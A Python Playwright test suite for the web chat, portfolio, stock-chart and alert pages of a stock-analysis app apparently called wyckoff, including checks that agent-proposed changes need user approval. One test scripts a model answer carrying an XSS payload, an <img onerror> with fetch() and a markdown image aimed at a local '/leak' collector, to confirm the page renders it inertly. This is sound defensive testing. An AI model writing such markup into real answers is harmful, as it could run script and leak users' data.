"""The reading room in a real browser (Playwright driving Debian's Chromium, headless)
against a real `wyckoff web` process and the scripted model servers."""

from __future__ import annotations

import json
import re

from playwright.sync_api import Page, expect

from tests.cli_runner import cli
from tests.conftest import add_scripted_model
from tests.model_servers import Reply
from tests.web.server import cash, demo_close, demo_day, web_server
from wyckoff.ledger.days import day_text

SET_CASH = {"action": "set_cash", "cash": 50000}


def test_chat_streams_the_answer_with_tool_rows_and_asks_before_a_change(
    demo_home, openai_server, browser_page: Page
) -> None:
    add_scripted_model(openai_server)
    openai_server.script(
        Reply(tool_calls=[("delegate_to_research", {"task": "TASK-R 看看大盘"})]),
        Reply(text="研究完毕。"),
        Reply(tool_calls=[("get_market_overview", {})]),
        Reply(text="大盘偏弱，建议控制仓位。", pieces=4),
        Reply(tool_calls=[("update_portfolio", SET_CASH)]),
        Reply(text="好的，没有修改现金。"),
        Reply(tool_calls=[("update_portfolio", SET_CASH)]),
        Reply(text="现金已记为五万。"),
        Reply(
            tool_calls=[
                ("ask_user", {"question": "接下来看哪个指数？", "options": ["沪深300", "上证50"]})
            ]
        ),
        Reply(text="好的，看沪深300。"),
    ).route(
        "TASK-R",
        Reply(tool_calls=[("get_market_overview", {})]),
        Reply(text="子智能体：大盘中性。"),
    )
    page = browser_page
    with web_server() as web:
        page.goto(f"{web.base}/chat?token={web.token}")
        expect(page.locator("#chat-status")).to_contain_text("会话")
        page.fill("#prompt", "让研究员看看大盘")
        page.click("#send")
        block = page.locator(".delegation")  # the sub-agent's work, apart from the answer
        expect(block).to_contain_text("子智能体 research")
        expect(block.locator(".tool[data-tool=get_market_overview]")).to_contain_text("上证指数")
        expect(block.locator(".answer")).to_have_text("子智能体：大盘中性。")
        answered(page, "研究完毕。")

        page.fill("#prompt", "今天大盘怎么样？")
        page.click("#send")
        row = page.locator(".log > .tool[data-tool=get_market_overview]")
        expect(row).to_contain_text("上证指数")  # the tool's one-line summary
        answered(page, "大盘偏弱，建议控制仓位。")

        page.fill("#prompt", "把现金记为五万")
        page.click("#send")
        dialog = page.locator("dialog.request")
        expect(dialog).to_contain_text(
            "把现金从 0.00 元改为 50,000.00 元"
        )  # the runtime's sentence
        expect(page.locator("dialog.request #deny")).to_be_focused()  # a stray Enter denies
        page.click("dialog.request #deny")
        answered(page, "好的，没有修改现金。")
        assert cash() == 0

        page.fill("#prompt", "确认，把现金记为五万")
        page.click("#send")
        page.click("dialog.request #allow")
        answered(page, "现金已记为五万。")
        expect(page.locator(".tool[data-tool=update_portfolio]").last).to_contain_text("50,000.00")
        assert cash() == 50000

        ask(page, "还有呢？")
        expect(page.locator("dialog.request h2")).to_have_text("接下来看哪个指数？")
        page.click("dialog.request button:has-text('沪深300')")
        expect(page.locator(".tool[data-tool=ask_user]")).to_contain_text("用户回答：沪深300")
        answered(page, "好的，看沪深300。")

        page.reload()  # the session comes back from the chat log
        expect(page.locator(".user")).to_have_count(5)
        expect(page.locator("#session-list li")).to_have_count(1)


def test_stock_page_draws_candles_and_volume_on_a_phone(web, browser_page: Page) -> None:
    page = browser_page
    page.set_viewport_size({"width": 390, "height": 844})
    page.goto(f"{web.base}/stock/000001?token={web.token}")
    expect(page.locator("h1")).to_have_text("000001 平安银行")
    expect(page.locator(".diagnosis")).to_contain_text("止损")
    canvases = page.locator("#chart canvas")
    expect(canvases.first).to_be_visible()
    # the candles' pane and the volume pane are drawn, and something was painted on them
    assert len([n for n in painted(page, "#chart") if n > 500]) >= 2
    # below it, the day's minute path (price and VWAP, volume) with its source and as-of
    expect(page.locator("#intraday-label")).to_contain_text("数据源：demo（1 分钟线），截至 ")
    expect(page.locator("#intraday .legend")).to_contain_text("确认支撑")
    expect(page.locator("#intraday-chart canvas").first).to_be_visible()
    assert len([n for n in painted(page, "#intraday-chart") if n > 500]) >= 2
    assert page.evaluate("document.documentElement.scrollWidth") <= 390  # no sideways scroll
    page.fill("#go input", "万科")  # the header's search opens another stock
    page.press("#go input", "Enter")
    expect(page.locator("h1")).to_contain_text("000002 万科A")


def painted(page: Page, box: str) -> list[int]:
    """How many pixels were painted on each of the chart's large canvases."""
    return page.evaluate(
        """(box) => [...document.querySelectorAll(box + ' canvas')]
            .filter(c => c.width > 100 && c.height > 50)
            .map(c => { const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
                        let n = 0; for (let i = 3; i < d.length; i += 4) if (d[i]) n++; return n; })""",
        box,
    )


def test_a_portfolio_change_is_a_plan_then_an_explicit_execute(web, browser_page: Page) -> None:
    page = browser_page
    page.set_viewport_size({"width": 390, "height": 844})  # on a phone
    page.goto(f"{web.base}/portfolio?token={web.token}")
    page.select_option("#change select[name=action]", "set_cash")
    page.fill("#change input[name=cash]", "12345")
    page.click("#change button[type=submit]")
    expect(page.locator("#plan .sentence")).to_have_text("把现金从 0.00 元改为 12,345.00 元")
    assert page.locator("#plan").bounding_box()["width"] <= 390  # the dialog fits the phone
    assert cash() == 0  # a plan writes nothing
    page.click("#plan #execute")
    expect(page.locator(".notice")).to_contain_text("已设置现金：0.00 → 12,345.00")
    expect(page.locator("main")).to_contain_text("现金 12,345.00")
    assert cash() == 12345
    page.click("#undo")
    expect(page.locator("#plan .sentence")).to_contain_text("撤销最近一次设置现金")
    page.click("#plan #discard")
    assert cash() == 12345
    page.click("#undo")
    page.click("#plan #execute")
    expect(page.locator("main")).to_contain_text("已撤销")
    assert cash() == 0
    assert page.evaluate("document.documentElement.scrollWidth") <= 390


def test_a_fill_shows_its_fees_before_execute_then_pnl_and_nav_beside_the_csi300(
    web, browser_page: Page
) -> None:
    assert cli("portfolio", "cash", "100000").returncode == 0
    day = demo_day(10)
    price = demo_close("000002", day)  # a price traded that day
    value = round(price * 1000 * 100)  # cents
    paid = value + 500 + (value + 50_000) // 100_000  # minimum commission, transfer fee 0.001%
    left = f"{(10_000_000 - paid) / 100:,.2f}"
    page = browser_page
    page.goto(f"{web.base}/portfolio?token={web.token}")
    page.select_option("#change select[name=action]", "buy")
    for name, value_text in (
        ("code", "万科A"),
        ("shares", "1000"),
        ("price", f"{price:.2f}"),
        ("trade_date", day),
    ):
        page.fill(f"#change input[name={name}]", value_text)
    page.click("#change button[type=submit]")
    expect(page.locator("#plan .sentence")).to_have_text(  # the agent's approval sentence
        re.compile(
            rf"买入 000002 万科A 1000 股 @ {price:.2f}（{day_text(day)}）：成交金额 {value / 100:,.2f}，"
            rf"佣金 5\.00，过户费 .*；共付 {paid / 100:,.2f} 元，现金 100,000\.00 → {left}"
        )
    )
    assert cash() == 100000  # a plan writes nothing
    page.click("#plan #execute")
    expect(page.locator(".notice")).to_contain_text(f"已买入：000002 万科A 1000 股 @ {price:.2f}")
    expect(page.locator("#pnl-total")).to_contain_text(f"现金 {left}")
    # every amount and day on the page written one way: 92,316.92 and 2026-12-03
    expect(page.locator("body")).to_contain_text(f"现金 {left}，总资产")
    pnl_table = page.locator("table").nth(1)  # after the holdings
    expect(pnl_table).to_contain_text(re.compile(r"（\d{4}-\d{2}-\d{2}）"))
    assert not re.search(r"（\d{8}）", pnl_table.inner_text())
    expect(page.locator("#nav-last")).to_contain_text("同期沪深300")
    expect(page.locator("#nav-chart canvas").first).to_be_visible()
    assert [n for n in painted(page, "#nav-chart") if n > 500]
    assert cash() == (10_000_000 - paid) / 100


def test_cancel_a_turn_then_new_resume_and_fork_sessions(
    demo_home, openai_server, browser_page: Page
) -> None:
    add_scripted_model(openai_server)
    openai_server.script(
        Reply(text="第一个回答。"),
        Reply(text="这是一段很慢的回答。" * 20, pieces=40, piece_delay_s=0.3),
        Reply(text="第二个会话的回答。"),
    )
    page = browser_page
    with web_server() as web:
        page.goto(f"{web.base}/chat?token={web.token}")
        expect(page.locator("#chat-status")).to_contain_text("会话")
        first_session = page.locator("#chat-status").inner_text()
        ask(page, "第一个问题")
        expect(page.locator("#chat-status")).to_have_text("回答完成")
        page.fill("#prompt", "慢慢说")
        page.press("#prompt", "Enter")
        expect(page.locator(".answer").last).to_contain_text("这是一段很慢的回答。")
        page.click("#cancel")
        expect(page.locator("#chat-status")).to_contain_text("已取消本轮回答")

        page.click("#new-chat")
        expect(page.locator(".user")).to_have_count(0)
        assert page.locator("#chat-status").inner_text() != first_session
        ask(page, "第二个问题")
        expect(page.locator("#chat-status")).to_have_text("回答完成")
        expect(page.locator("#session-list li")).to_have_count(2)

        page.locator("#session-list button", has_text="第一个问题").click()  # resume it
        expect(page.locator(".user")).to_have_text(["第一个问题", "慢慢说"])
        expect(page.locator("#chat-status")).to_have_text(first_session)
        page.click("#fork")
        expect(page.locator("#chat-status")).not_to_have_text(first_session)
        expect(page.locator(".user")).to_have_text(["第一个问题", "慢慢说"])  # the copy's history


def ask(page: Page, text: str) -> None:
    page.fill("#prompt", text)
    page.press("#prompt", "Enter")


def answered(page: Page, text: str) -> None:
    """The turn's answer is shown and the turn has ended (the next question may go)."""
    expect(page.locator(".log > .answer").last).to_have_text(text)
    expect(page.locator("#chat-status")).to_have_text("回答完成")


def test_a_hostile_answer_renders_as_text_and_reaches_nowhere(
    demo_home, openai_server, browser_page: Page
) -> None:
    """The model was talked into writing HTML, a script and an image pointing at a server
    that collects what the page sends: the page shows them as text and requests nothing."""
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
    from threading import Thread

    visits: list[str] = []

    class Collector(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            visits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args) -> None:
            pass

    collector = ThreadingHTTPServer(("127.0.0.1", 0), Collector)
    Thread(target=collector.serve_forever, daemon=True).start()
    leak = f"http://127.0.0.1:{collector.server_port}/leak"
    answer = (
        f"**结论**：偏弱。<img src=x onerror=\"window.pwned=1;fetch('{leak}?img')\">"
        f"<script>window.pwned=2</script>\n\n![图]({leak}?md)\n\n| 指数 | 涨跌 |\n|---|---|\n| 上证 | -1% |"
    )
    add_scripted_model(openai_server)
    openai_server.script(Reply(text=answer))
    page = browser_page
    try:
        with web_server() as web:
            page.goto(f"{web.base}/chat?token={web.token}")
            expect(page.locator("#chat-status")).to_contain_text("会话")
            ask(page, "总结一下")
            expect(page.locator("#chat-status")).to_have_text("回答完成")
            shown = page.locator(".answer.rendered").last
            expect(shown.locator("strong")).to_have_text("结论")
            expect(shown.locator("table td").first).to_have_text("上证")
            expect(shown).to_contain_text("<img src=x onerror=")  # shown, not obeyed
            assert shown.locator("img, script").count() == 0
            page.reload()  # and the same from the saved session
            expect(page.locator(".answer.rendered strong")).to_have_text("结论")
            page.wait_for_timeout(500)
            assert page.evaluate("window.pwned") is None
    finally:
        collector.shutdown()
    assert visits == []


def test_alert_rules_and_the_watchlist_change_through_a_confirmed_plan(
    web, browser_page: Page
) -> None:
    page = browser_page
    page.goto(f"{web.base}/alerts?token={web.token}")
    page.select_option("#add-alert select[name=kind]", "price")
    page.fill("#add-alert input[name=scope]", "平安银行")
    page.fill("#add-alert input[name=below]", "9.5")
    page.click("#add-alert button[type=submit]")
    expect(page.locator("#plan .sentence")).to_have_text("添加提醒 price：000001：收盘 ≤ 9.50")
    page.click("#plan #execute")
    expect(page.locator(".notice")).to_contain_text("已添加提醒 #1 price")
    expect(page.locator("main table").first).to_contain_text("000001：收盘 ≤ 9.50")
    assert [r["kind"] for r in json.loads(cli("alert", "list", "--json").stdout)["rules"]] == [
        "price"
    ]

    page.click("nav a[href='/watch']")
    page.fill("#add-watch input[name=code]", "万科A")
    page.click("#add-watch button[type=submit]")
    expect(page.locator("#plan .sentence")).to_have_text("把 000002 万科A 加入自选股")
    page.click("#plan #discard")  # a discarded plan changes nothing
    expect(page.locator("main")).to_contain_text("自选股为空")
    page.click("#add-watch button[type=submit]")
    page.click("#plan #execute")
    expect(page.locator("main table")).to_contain_text("000002 万科A")


def test_the_portfolio_page_shows_the_paper_account_beside_the_csi300(
    web, browser_page: Page
) -> None:
    assert cli("paper", "reset", "--start", demo_day(10)).returncode == 0
    assert cli("paper", "run").returncode == 0
    page = browser_page
    page.goto(f"{web.base}/portfolio?token={web.token}")
    expect(page.locator("#paper-last")).to_contain_text("同期沪深300")
    expect(page.locator("#paper-last")).to_contain_text(day_text(demo_day(0)))
    expect(page.locator("#paper-chart canvas").first).to_be_visible()
    assert [n for n in painted(page, "#paper-chart") if n > 500]
    expect(page.locator("h2", has_text="纸面账户")).to_be_visible()
